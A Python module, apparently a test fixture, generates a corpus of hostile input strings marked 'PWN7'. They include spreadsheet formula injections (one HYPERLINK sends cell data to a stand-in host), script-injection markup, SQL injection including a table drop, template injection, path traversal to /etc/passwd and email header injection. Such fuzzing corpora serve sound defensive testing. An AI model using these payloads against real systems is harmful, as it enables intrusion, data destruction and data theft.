"""Texts that want to be more than texts, each with a mark by which it is found again."""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "PWN7"
_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", '"=', "|=", ";=")
_FORMULAS: Final = (
    "cmd|' /C calc {m}'!A0",
    'HYPERLINK("http://{m}.example/?q="&A1,"see")',
    "1+1+cmd|{m}",
    'IMPORTXML("http://{m}.example","//a")',
    "SUM(1;2)*{m}",
)
_MARKUP: Final = (
    "<script>window.{m}=1</script>",
    "</script><script>window.{m}=1</script>",
    "<img src=x onerror=window.{m}=1>",
    '"><svg/onload=window.{m}=1>',
    "' onmouseover='window.{m}=1",
    '" autofocus onfocus="window.{m}=1',
    "<iframe srcdoc='<script>parent.{m}=1</script>'>",
    "<a href=javascript:window.{m}=1>see</a>",
    "<style>@import url(http://{m}.example)</style>",
    "<!--{m}--><base href=http://{m}.example/>",
    "]]><x>{m}</x>",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "&#60;script&#62;{m}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={m}>",
    "<plaintext>{m}",
    "<template>{m}</template>",
    "<button formaction=javascript:{m}>x</button>",
    "<object data=data:text/html,{m}>",
    "<meta http-equiv=refresh content=0;url=http://{m}.example>",
    "<details open ontoggle=window.{m}=1>",
)
_QUERIES: Final = (
    "'; drop table reports.rpt_risk_tiers; -- {m}",
    "' or '1'='1' -- {m}",
    '" or ""="" {m}',
    "'); copy (select 1) to '/tmp/{m}'; --",
    "x' union select password from users {m} --",
    "{{{{ 7*7 }}}} {m}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{m}",
    "${{7*7}}{m}",
    "#{{7*7}}{m}",
    "<%= 7*7 %>{m}",
    "%s%s%n{m}",
    "{{0.__class__}}{m}",
)
_PATHS: Final = (
    "../../../../etc/passwd {m}",
    "..\\..\\windows\\{m}",
    "/etc/{m}",
    "C:\\{m}.exe",
    "file:///etc/{m}",
    "CON {m}",
    "{m}.xlsx/../..",
    "~/{m}",
)
_SIGNS: Final = (
    "\u202e{m}\u202c",
    "\u200b{m}\u200b",
    "\x1b[31m{m}\x1b[0m",
    "\x1b]0;{m}\x07",
    "{m}\u2028{m}",
    "{m}\x7f\x08\x08",
    "\ufeff{m}",
    "{m}\r\nBcc: all@example.org",
    "{m}\n\n=1+1",
    "Z̴̢{m}",
    "𝒫{m}🔥",
    "{m}," * 20,
    '{m}","{m}',
    "[{m}](javascript:alert(1))",
    "![x](http://{m}.example/x.png)",
    "| {m} | {m} |",
    "\\u003cscript\\u003e{m}",
    "%3Cscript%3E{m}",
    '{{"{m}": 1}}',
    "null {m}",
)


def texts() -> list[str]:
    """List two hundred hostile texts, none twice."""
    formulas = [start + formula for start, formula in product(_STARTS, _FORMULAS)]
    plain = [*formulas, *_MARKUP, *_QUERIES, *_PATHS, *_SIGNS]
    filled = [text.format(m=MARK) for text in plain]
    mixed = [
        f"{formula}{markup}"
        for formula, markup in zip(filled, filled[len(formulas) :], strict=False)
    ]
    return list(dict.fromkeys([*filled, *mixed, *(f"玩具{text}" for text in filled)]))[:200]
